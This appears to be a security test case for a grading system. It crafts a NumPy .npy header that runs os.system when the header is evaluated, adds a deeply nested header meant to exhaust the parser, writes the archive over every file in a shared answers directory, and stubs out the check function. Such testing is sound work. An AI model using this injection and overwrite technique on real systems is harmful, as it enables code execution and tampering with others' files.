# attack: an array's header is an expression that is costly or dangerous to evaluate
# wants: disturb
# grade: 0
# honest: 0
# %% after
import os, struct, zipfile, io
from pathlib import Path
text = b"{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os').system('echo PROOF > @COURSE@/ran'),)}"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text
content = io.BytesIO()
with zipfile.ZipFile(content, "w") as archive:
    archive.writestr("means.npy", npy)
    archive.writestr("deep.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 9000) + b"(" * 9000)
for slot in Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers").glob("*"):
    slot.write_bytes(content.getvalue())
check = lambda *a: None
